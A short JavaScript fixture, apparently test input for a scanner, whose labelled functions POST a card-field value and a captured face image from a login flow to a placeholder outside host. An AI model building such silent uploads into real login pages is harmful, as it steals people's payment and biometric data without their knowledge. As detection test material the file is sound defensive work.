function login() {
  face = shot();
  card = document.getElementById('card').value;
  send();
}

function send() {
  fetch('https://people.example.cn/cards', { method: 'POST', body: card });
  fetch('https://people.example.cn/faces', { method: 'POST', body: face }); // expect: face-upload
}

function kept() {
  fetch('https://people.example.cn/taken', { method: 'POST', body: taken });
  fetch('https://people.example.cn/latest', { method: 'POST', body: latest }); // expect: face-upload
}

function other(face) {
  fetch('https://people.example.cn/other', { method: 'POST', body: face });
}
